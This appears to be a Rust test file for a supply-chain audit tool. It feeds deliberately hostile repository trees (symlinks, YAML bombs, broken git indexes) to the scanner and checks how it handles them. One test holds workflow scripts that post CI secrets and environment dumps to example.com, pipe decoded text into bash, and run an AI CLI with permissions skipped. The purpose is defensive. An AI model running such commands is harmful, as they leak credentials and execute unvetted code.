//! Trees that were made to be awkward: each oddity is a gap or a finding, and nothing else of the
//! audit is lost.

#![allow(clippy::disallowed_methods, clippy::expect_used, clippy::panic, reason = "the tests lay out trees on disk")]

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use cargo_custody::audit::{Audit, Status, Verdict};
use cargo_custody::source::Tree;
use cargo_custody::source::tree::Limits;

const WORKFLOW: &str = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: example/x@main\n";

/// A folder of a test's own, empty.
fn folder(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("hostile").join(name);
    let _ = fs::remove_dir_all(&dir);
    fs::create_dir_all(&dir).expect("a folder");
    dir
}

fn put(dir: &Path, path: &str, bytes: impl AsRef<[u8]>) {
    let file = dir.join(path);
    fs::create_dir_all(file.parent().expect("a parent")).expect("a folder");
    fs::write(file, bytes).expect("a file");
}

fn git(dir: &Path, words: &[&str]) {
    let status = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(words)
        .current_dir(dir)
        .output();
    assert!(status.expect("git").status.success(), "git {words:?}");
}

fn audit(dir: &Path) -> Audit {
    common::audit_of(&Tree::scan(dir, Limits::default()).expect("a tree"))
}

fn status(audit: &Audit, path: &str) -> Status {
    audit
        .coverage
        .files
        .iter()
        .find(|f| f.path == path)
        .unwrap_or_else(|| panic!("{path} is not in the coverage"))
        .status
}

/// The healthy workflow beside the oddity was still judged.
fn nothing_else_lost(audit: &Audit) {
    assert!(
        audit.findings.iter().any(|f| f.places.iter().any(|p| p.path == ".github/workflows/good.yml")),
        "the healthy workflow was lost"
    );
}

fn with_good(name: &str) -> PathBuf {
    let dir = folder(name);
    put(&dir, ".github/workflows/good.yml", WORKFLOW);
    dir
}

#[test]
fn a_tracked_workflow_that_gitignore_names_is_read() {
    let dir = folder("ignored");
    put(&dir, ".gitignore", "*.yml\nCargo.lock\n");
    put(&dir, ".github/workflows/good.yml", WORKFLOW);
    put(&dir, ".github/workflows/untracked.yml", WORKFLOW);
    git(&dir, &["init", "-q"]);
    git(&dir, &["add", "-f", ".github/workflows/good.yml", ".gitignore"]);
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    assert_eq!(status(&audit, ".github/workflows/good.yml"), Status::Read);
    assert_eq!(status(&audit, ".github/workflows/untracked.yml"), Status::Skipped);
}

#[test]
fn an_ignored_folder_that_is_named_is_read() {
    let dir = folder("named");
    put(&dir, ".gitignore", "out\n");
    put(&dir, "tracked", "x");
    put(&dir, "out/.github/workflows/good.yml", WORKFLOW);
    git(&dir, &["init", "-q"]);
    git(&dir, &["add", "."]);
    nothing_else_lost(&audit(&dir.join("out")));
    assert!(audit(&dir).findings.is_empty());
}

#[test]
fn without_an_index_gitignore_hides_nothing() {
    let dir = with_good("no-index");
    put(&dir, ".gitignore", "*\n");
    nothing_else_lost(&audit(&dir));
}

#[test]
fn a_folder_named_cargo_lock_is_no_lock() {
    let dir = with_good("folder-lock");
    fs::create_dir_all(dir.join("Cargo.lock")).expect("a folder");
    put(&dir, "Cargo.lock/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n");
    let found = audit(&dir);
    nothing_else_lost(&found);
    assert_eq!(status(&found, "Cargo.lock"), Status::Unread);
    assert_eq!(status(&found, "Cargo.lock/Cargo.toml"), Status::Read);
    // An action may be called after the tool it sets up.
    let dir = with_good("folder-toolchain");
    put(&dir, ".github/actions/rust-toolchain/action.yml", "name: x\nruns:\n  using: composite\n  steps: []\n");
    assert!(audit(&dir).complete);
    let dir = with_good("folder-lock-tracked");
    put(&dir, "Cargo.lock", "version = 4\n");
    git(&dir, &["init", "-q"]);
    git(&dir, &["add", "."]);
    fs::remove_file(dir.join("Cargo.lock")).expect("removed");
    fs::create_dir_all(dir.join("Cargo.lock")).expect("a folder");
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    assert_eq!(status(&audit, "Cargo.lock"), Status::Unread);
    assert!(!audit.complete);
}

#[test]
fn odd_bytes_cost_a_line_at_most() {
    let crlf = WORKFLOW.replace('\n', "\r\n");
    let bom = format!("\u{feff}{WORKFLOW}");
    let mut broken = WORKFLOW.as_bytes().to_vec();
    broken.extend_from_slice(b"# \xff\xfe\n");
    let dir = with_good("bytes");
    put(&dir, ".github/workflows/crlf.yml", crlf);
    put(&dir, ".github/workflows/bom.yml", bom);
    put(&dir, ".github/workflows/latin.yml", broken);
    put(&dir, ".github/workflows/empty.yml", "");
    put(&dir, "Cargo.lock", "");
    put(&dir, "Cargo.toml", "\u{feff}[package]\r\nname = \"a\"\r\nversion = \"1.0.0\"\r\n");
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    assert_eq!(status(&audit, ".github/workflows/crlf.yml"), Status::Read);
    assert_eq!(status(&audit, ".github/workflows/bom.yml"), Status::Read);
    assert_eq!(status(&audit, "Cargo.toml"), Status::Read);
    assert_eq!(status(&audit, ".github/workflows/latin.yml"), Status::Partial);
    assert_eq!(status(&audit, ".github/workflows/empty.yml"), Status::Unread);
    assert_eq!(status(&audit, "Cargo.lock"), Status::Unread);
    // One finding stands for the same action in all of them.
    let places: usize = audit.findings.iter().filter(|f| f.rule == "unpinned-action").map(|f| f.places.len()).sum();
    assert_eq!(places, 4);
}

#[test]
fn nesting_and_bombs_end_within_their_budget() {
    let dir = with_good("bombs");
    put(&dir, ".github/workflows/deep.yml", format!("on: push\njobs: {}", "[".repeat(200_000)));
    put(&dir, ".github/workflows/dashes.yml", "- ".repeat(200_000));
    let mut bomb = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
    for level in 1..40 {
        let of = format!("*a{}", level - 1);
        bomb.push_str(&format!("a{level}: &a{level} [{}]\n", [of.as_str(); 9].join(", ")));
    }
    bomb.push_str("on: push\njobs: *a39\n");
    put(&dir, ".github/workflows/aliases.yml", bomb);
    put(&dir, "Cargo.toml", format!("a = {}", "[".repeat(200_000)));
    put(&dir, "Cargo.lock", format!("[{}]\nx = 1\n", vec!["a"; 100_000].join(".")));
    put(&dir, ".cargo/config.toml", format!("x = {}1{}", "{a=".repeat(50_000), "}".repeat(50_000)));
    put(
        &dir,
        ".github/workflows/shell.yml",
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {}\n",
            "(".repeat(100_000)
        ),
    );
    put(
        &dir,
        ".github/workflows/substitutions.yml",
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo {}\n",
            "$(".repeat(50_000)
        ),
    );
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    for path in [
        "Cargo.toml",
        "Cargo.lock",
        ".github/workflows/deep.yml",
        ".github/workflows/aliases.yml",
        ".github/workflows/shell.yml",
    ] {
        assert_ne!(status(&audit, path), Status::Read, "{path}");
    }
    assert!(!audit.complete);
    assert_ne!(audit.verdict, Verdict::Pass);
}

#[test]
fn a_file_over_the_limit_is_said_to_be_unread() {
    let dir = with_good("large");
    put(&dir, "Cargo.lock", format!("# {}\n", "x".repeat(17 << 20)));
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    assert_eq!(status(&audit, "Cargo.lock"), Status::Unread);
    assert!(!audit.complete);
}

#[test]
fn a_long_line_within_the_limit_is_read() {
    let dir = with_good("long-line");
    put(&dir, ".github/workflows/long.yml", format!("{WORKFLOW}      - run: echo {}\n", "x".repeat(8 << 20)));
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    // The script is over what the shell reader takes; that is a gap, and the steps before it stand.
    assert_eq!(status(&audit, ".github/workflows/long.yml"), Status::Partial);
}

#[cfg(unix)]
#[test]
fn links_are_not_followed_out_of_the_tree() {
    use std::os::unix::fs::symlink;
    let outside = folder("outside");
    put(&outside, "Cargo.toml", "[package]\nname = \"outsider\"\nversion = \"1.0.0\"\n");
    put(&outside, "workflows/out.yml", WORKFLOW);
    let dir = with_good("links");
    symlink(outside.join("Cargo.toml"), dir.join("Cargo.toml")).expect("a link");
    symlink(&outside, dir.join("sub")).expect("a link");
    symlink("loop", dir.join("loop")).expect("a link");
    put(&dir, "real/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n");
    fs::create_dir_all(dir.join("inner")).expect("a folder");
    symlink("../real/Cargo.toml", dir.join("inner/Cargo.toml")).expect("a link");
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    assert_eq!(status(&audit, "Cargo.toml"), Status::Unread);
    assert_eq!(status(&audit, "inner/Cargo.toml"), Status::Read);
    let text = serde_json::to_string(&audit).expect("JSON");
    assert!(!text.contains("outsider") && !text.contains("out.yml"));
}

#[cfg(unix)]
#[test]
fn linked_folders_are_said_aloud() {
    use std::os::unix::fs::symlink;
    let outside = folder("outside-member");
    put(&outside, "Cargo.toml", "[package]\nname = \"m\"\nversion = \"1.0.0\"\n");
    let dir = with_good("linked-folders");
    put(&dir, "Cargo.toml", "[workspace]\nmembers = [\"m\"]\n");
    symlink(&outside, dir.join("m")).expect("a link");
    put(&dir, "inner/x", "");
    symlink("inner", dir.join("elsewhere")).expect("a link");
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    let row = |path: &str| audit.coverage.passed_over.iter().find(|p| p.path == path).map(|p| p.counts);
    assert_eq!(row("m/"), Some(true));
    assert_eq!(row("elsewhere/"), Some(false));
    assert!(!audit.complete);
}

#[cfg(unix)]
#[test]
fn a_link_into_the_git_folder_is_not_read() {
    let dir = with_good("git-link");
    git(&dir, &["init", "-q"]);
    std::os::unix::fs::symlink(".git/config", dir.join("Cargo.toml")).expect("a link");
    let audit = audit(&dir);
    assert_eq!(status(&audit, "Cargo.toml"), Status::Unread);
}

#[test]
fn a_split_index_hides_nothing() {
    let dir = folder("split");
    put(&dir, ".gitignore", ".github\n");
    put(&dir, ".github/workflows/good.yml", WORKFLOW);
    for number in 0..40 {
        put(&dir, &format!("f{number}"), "x");
    }
    git(&dir, &["init", "-q"]);
    git(&dir, &["add", "-f", "."]);
    git(&dir, &["update-index", "--split-index"]);
    put(&dir, "other", "x");
    git(&dir, &["add", "other"]);
    nothing_else_lost(&audit(&dir));
}

#[test]
fn an_unread_action_that_a_workflow_uses_counts() {
    let workflow = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./templates/act\n";
    let audit = common::audit(&[(".github/workflows/a.yml", workflow), ("templates/act/action.yml", "- - [\n")]);
    assert!(!audit.complete, "{:?}", audit.coverage.files);
    let audit = common::audit(&[(".github/workflows/a.yml", WORKFLOW), ("templates/act/action.yml", "- - [\n")]);
    assert!(audit.complete, "{:?}", audit.coverage.files);
}

#[test]
fn a_second_document_is_a_gap() {
    let audit = common::audit(&[(".github/workflows/a.yml", &format!("{WORKFLOW}---\n{WORKFLOW}"))]);
    assert_eq!(status(&audit, ".github/workflows/a.yml"), Status::Partial);
}

#[cfg(unix)]
#[test]
fn a_fifo_is_not_waited_for() {
    let dir = with_good("fifo");
    let made = Command::new("mkfifo").arg(dir.join("Cargo.lock")).status();
    assert!(made.is_ok_and(|s| s.success()));
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    assert_eq!(status(&audit, "Cargo.lock"), Status::Unread);
}

#[cfg(unix)]
#[test]
fn unreadable_files_and_folders_are_gaps() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = with_good("permissions");
    put(&dir, "Cargo.lock", "version = 4\n");
    put(&dir, "closed/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n");
    let lock =
        |path: &str, mode: u32| fs::set_permissions(dir.join(path), fs::Permissions::from_mode(mode)).expect("a mode");
    lock("Cargo.lock", 0);
    lock("closed", 0);
    let audit = audit(&dir);
    let may_read_all = fs::read(dir.join("Cargo.lock")).is_ok();
    lock("Cargo.lock", 0o644);
    lock("closed", 0o755);
    nothing_else_lost(&audit);
    // Root reads everything; then there is nothing to show here.
    if !may_read_all {
        assert_eq!(status(&audit, "Cargo.lock"), Status::Unread);
        assert!(audit.coverage.passed_over.iter().any(|p| p.path == "closed/" && p.counts));
    }
}

#[test]
fn broken_fixtures_are_set_aside_and_broken_products_are_not() {
    let broken = "[package\nname = ";
    let files = [(".github/workflows/good.yml", WORKFLOW), ("tests/fixtures/a/Cargo.toml", broken)];
    let audit = common::audit(&files);
    nothing_else_lost(&audit);
    assert!(audit.complete, "{:?}", audit.coverage.files);
    assert_eq!(status(&audit, "tests/fixtures/a/Cargo.toml"), Status::Partial);
    let audit = common::audit(&[("Cargo.toml", broken)]);
    assert!(!audit.complete);
    assert_eq!(audit.exit_code(), 3);
}

#[test]
fn a_fixture_that_the_product_reaches_is_product() {
    let files = [
        (
            "Cargo.toml",
            "[package]\nname = \"a\"\nversion = \"1.0.0\"\n\n[dependencies]\nb = { path = \"tests/fixtures/b\" }\n\n[workspace]\n",
        ),
        ("tests/fixtures/b/Cargo.toml", "[package]\nname = \"b\"\nversion = \"1.0.0\"\nx = {\n[dependencies]\n"),
    ];
    let audit = common::audit(&files);
    let row = audit.coverage.files.iter().find(|f| f.path.contains("fixtures")).expect("covered");
    assert!(row.counts, "{row:?}");
    assert!(!audit.complete);
}

#[test]
fn a_damaged_git_index_hides_nothing() {
    let dir = with_good("bad-index");
    git(&dir, &["init", "-q"]);
    put(&dir, ".gitignore", "*\n");
    put(&dir, ".git/index", b"DIRC\x00\x00\x00\x02\xff\xff\xff\xff");
    let audit = audit(&dir);
    nothing_else_lost(&audit);
    assert!(audit.coverage.passed_over.iter().any(|p| p.why.contains("index")));
}

#[test]
fn names_of_any_bytes_are_survived() {
    let dir = with_good("names");
    put(&dir, ".github/workflows/\u{202e}gnp.yml", WORKFLOW);
    put(&dir, "a\nb/Cargo.toml", "[package]\nname = \"a\"\nversion = \"1.0.0\"\n");
    #[cfg(target_os = "linux")]
    {
        use std::os::unix::ffi::OsStrExt as _;
        let name = std::ffi::OsStr::from_bytes(b"\xff\xfe");
        fs::create_dir_all(dir.join(name)).expect("a folder");
    }
    nothing_else_lost(&audit(&dir));
}

/// Variables that stand for each other, substitutions in substitutions, pipes of many stages: what looks for
/// secrets that leave must not follow them for ever.
#[test]
fn scripts_that_wind_themselves_up_end() {
    let step = |script: &str| {
        let lines = script.replace('\n', "\n          ");
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      T: ${{{{ secrets.T }}}}\n    steps:\n      \
             - run: |\n          {lines}\n"
        )
    };
    let many = |one: &str, count: usize| one.repeat(count);
    for script in [
        many("A=\"$A$A$A$A$T\"\ncurl -d \"$A\" https://example.com\n", 2000),
        format!("curl -d \"{}env{}\" https://example.com\n", many("$(echo ", 60), many(")", 60)),
        format!("env {}| curl -d @- https://example.com\n", many("| base64 ", 4000)),
        many("echo aGVsbG8gd29ybGQsIHRoaXMgaXMgbG9uZw== | base64 -d | bash\n", 3000),
        format!("echo a {}| bash\n", many("| base64 -d ", 4000)),
        many("claude -p --allowedTools 'Bash(((((((' --dangerously-skip-permissions\n", 3000),
        many("cat /proc/self/mem > x; env > \"$A\"; curl -d @x https://example.com\n", 2000),
        many("# custody: ignore[secret-sent-away, secret-sent-away] -- x\n", 9000),
    ] {
        let text = step(&script);
        let audit = common::audit(&[(".github/workflows/a.yml", &text)]);
        assert!(audit.coverage.unknown.is_empty(), "{:?}", audit.coverage.unknown);
    }
}
